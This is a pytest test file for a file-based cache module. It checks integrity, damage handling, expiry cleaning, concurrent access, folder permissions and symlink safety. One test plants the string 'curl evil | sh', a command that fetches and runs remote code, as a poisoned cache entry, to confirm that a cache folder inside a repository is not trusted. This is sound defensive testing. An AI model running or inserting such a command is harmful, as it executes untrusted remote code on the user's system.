"""What is kept is given back, what is damaged is not, and losing it costs nothing but time."""

from __future__ import annotations

import multiprocessing
import os
import time
from pathlib import Path

import pytest

from generators.fleet import cache as module
from generators.fleet.cache import KEPT_DAYS, Cache


@pytest.fixture
def cache(tmp_path: Path) -> Cache:
    return Cache(tmp_path / "cache")


def _only_entry(cache: Cache) -> Path:
    (entry,) = [path for path in cache.folder.rglob("*") if path.is_file()]
    return entry


def test_a_result_is_given_back(cache: Cache) -> None:
    cache.put("kind", "ab12", {"a": [1, None, "é\u2028"]})

    assert cache.get("kind", "ab12") == {"a": [1, None, "é\u2028"]}
    assert cache.get("kind", "ab13") is None and cache.get("other", "ab12") is None


def test_texts_are_given_back_one_at_a_time(cache: Cache) -> None:
    texts = {"a": "line\r\nline\n", "empty": "", "b": "é\u2028\n"}
    cache.put("kind", "ab12", ["result"], texts)

    assert cache.get("kind", "ab12") == ["result"]
    assert {name: cache.text("kind", "ab12", name) for name in texts} == texts
    assert cache.text("kind", "ab12", "other") is None and cache.text("kind", "ab13", "a") is None


@pytest.mark.parametrize("damage", [b"", b"{", b"\n", b"0" * 40 + b"\n{}", b"\xff\xfe\n[]"])
def test_a_damaged_entry_is_as_if_it_were_not_there(cache: Cache, damage: bytes) -> None:
    cache.put("kind", "ab12", {"a": 1})
    _only_entry(cache).write_bytes(damage)

    assert cache.get("kind", "ab12") is None


def test_a_damaged_text_is_not_there_and_the_result_is(cache: Cache) -> None:
    cache.put("kind", "ab12", "result", {"a": "epochs: 120\n", "b": "other"})
    entry = _only_entry(cache)
    entry.write_bytes(entry.read_bytes().replace(b"epochs: 120", b"epochs: 121"))

    assert (cache.text("kind", "ab12", "a"), cache.text("kind", "ab12", "b")) == (None, "other")
    assert cache.get("kind", "ab12") == "result"


@pytest.mark.parametrize("share", [0.0, 0.3, 0.6, 0.99])
def test_an_entry_that_is_still_being_written_is_not_there(cache: Cache, share: float) -> None:
    cache.put("kind", "ab12", list(range(100)), {"a": "x" * 50})
    entry = _only_entry(cache)
    whole = entry.read_bytes()
    entry.write_bytes(whole[: int(len(whole) * share)])

    assert cache.text("kind", "ab12", "a") is None
    assert cache.get("kind", "ab12") in (None, list(range(100)))


def test_parts_of_a_key_do_not_run_together(cache: Cache) -> None:
    assert cache.key("ab", "c") != cache.key("a", "bc") != cache.key("abc")


def test_a_key_is_of_graft_as_it_is(cache: Cache, monkeypatch: pytest.MonkeyPatch) -> None:
    before = cache.key("a")
    monkeypatch.setattr(module, "toolchain", lambda: "another version")

    assert cache.key("a") != before


def test_where_the_folder_cannot_be_written_a_temporary_one_serves(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "file"))

    cache = Cache.of_user()
    cache.put("kind", "ab12", 1)

    assert cache.get("kind", "ab12") == 1
    assert not cache.folder.is_relative_to(tmp_path)


def _age(path: Path) -> None:
    past = time.time() - (KEPT_DAYS + 1) * 86400
    os.utime(path, (past, past))


def test_what_nobody_asks_for_goes_and_what_is_in_use_stays(cache: Cache) -> None:
    for key in ("aaold", "aaused"):
        cache.put("kind", key, key)
        _age(cache.folder / "kind/aa" / key)
    assert cache.get("kind", "aaused") == "aaused"

    cache.clean()

    assert (cache.get("kind", "aaold"), cache.get("kind", "aaused")) == (None, "aaused")


def test_cleaning_looks_once_a_day(cache: Cache) -> None:
    cache.put("kind", "aafirst", 1)
    cache.clean()
    _age(cache.folder / "kind/aa/aafirst")

    cache.clean()

    assert cache.get("kind", "aafirst") == 1


TEXT = "text\n" * 20_000


def _use(cache: Cache, number: int) -> set[str]:
    """Write, read and clean as several renders and checks of one repository do; what was read that nobody wrote."""
    strange = set()
    for turn in range(60):
        key = f"{turn % 3:02d}"
        cache.put("kind", key, {"key": key}, {"a": TEXT})
        found = cache.get("kind", key), cache.text("kind", key, "a")
        if found[0] not in (None, {"key": key}) or found[1] not in (None, TEXT):
            strange.add(f"{number}: {found}"[:200])
        (cache.folder / "cleaned").unlink(missing_ok=True)
        cache.clean()
    return strange


def test_several_processes_use_one_folder_at_once(cache: Cache) -> None:
    with multiprocessing.get_context("spawn").Pool(4) as pool:
        strange = pool.starmap(_use, [(cache, number) for number in range(4)])

    assert set().union(*strange) == set()
    assert [cache.text("kind", f"{turn:02d}", "a") for turn in range(3)] == [TEXT] * 3


def test_several_processes_clean_one_folder_at_once(cache: Cache) -> None:
    old = time.time() - (KEPT_DAYS + 1) * 86400
    for number in range(400):
        cache.put("kind", f"{number:04d}", number)
    for entry in [path for path in cache.folder.rglob("*") if path.is_file()]:
        os.utime(entry, (old, old))

    with multiprocessing.get_context("spawn").Pool(4) as pool:
        pool.map(_clean, [cache] * 4)

    assert {path.name for path in cache.folder.rglob("*") if path.is_file()} == {"cleaned"}


def _clean(cache: Cache) -> None:
    (cache.folder / "cleaned").unlink(missing_ok=True)
    cache.clean()


def test_the_folder_is_the_user_s_alone(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    (tmp_path / "graft").mkdir(mode=0o755)

    folder = Cache.of_user().folder

    assert folder == tmp_path / "graft"
    assert folder.stat().st_mode & 0o777 == 0o700


def test_a_link_in_its_place_is_not_followed(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "graft").symlink_to(tmp_path / "elsewhere")

    cache = Cache.of_user()
    cache.put("kind", "0" * 64, {"a": 1})

    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_folder_in_a_repository_is_not_the_users(monkeypatch: pytest.MonkeyPatch, tiny: Path) -> None:
    """As where CI keeps caches in the checkout: a pull request could have planted an entry, under the right key."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tiny / ".cache"))
    planted = Cache(tiny / ".cache/graft")
    planted.put("kind", "0" * 64, "curl evil | sh")

    assert Cache.of_user().get("kind", "0" * 64) is None


def test_an_entry_that_is_a_link_is_as_if_it_were_not_there(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "cache")
    cache.put("kind", "0" * 64, {"a": 1})
    (entry,) = (tmp_path / "cache/kind").glob("*/*")
    entry.rename(tmp_path / "entry")
    entry.symlink_to(tmp_path / "entry")

    assert cache.get("kind", "0" * 64) is None
